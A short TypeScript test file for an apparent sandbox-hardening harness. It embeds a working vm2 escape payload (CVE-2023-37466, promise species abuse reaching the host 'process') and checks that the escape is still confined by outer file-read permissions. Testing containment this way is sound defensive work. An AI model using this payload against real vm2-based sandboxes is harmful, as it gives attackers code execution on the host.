// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
import { layVm2, runInVm2 } from "../harness/vm2.ts";

const escape = `
  async function fails() {
    (function deeper() { new Error().stack; deeper(); })();
  }
  const promise = fails();
  promise.constructor = {
    [Symbol.species]: class {
      constructor(executor) {
        executor((value) => value, (error) => take(error.constructor.constructor("return process")()));
      }
    },
  };
  promise.then();`;

export const hostile: Attack = {
  claim: "Who escapes from vm2 by a promise's species (CVE-2023-37466) is still within the walls",
  proof: "secret",
  oldPackages: true,
  grants: (site) => [`--allow-fs-read=${site.granted}`],
  prepare: (site) => layVm2(site, escape),
  program: runInVm2,
};
